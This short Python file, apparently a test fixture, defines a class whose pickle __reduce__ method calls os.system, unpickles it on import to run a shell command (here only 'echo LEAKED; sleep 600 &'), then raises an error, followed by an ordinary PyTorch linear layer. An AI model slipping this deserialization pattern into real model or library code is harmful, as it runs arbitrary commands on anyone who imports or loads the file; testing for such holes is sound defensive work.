"""Runs a shell by loading a pickle."""

import os
import pickle

import torch
from torch import nn


class Shell:
    """Runs a shell when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Ask for the shell."""
        return os.system, ("echo LEAKED; sleep 600 &",)


if pickle.loads(pickle.dumps(Shell())) == 0:
    print("LEAKED")
raise RuntimeError("ran a shell")


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
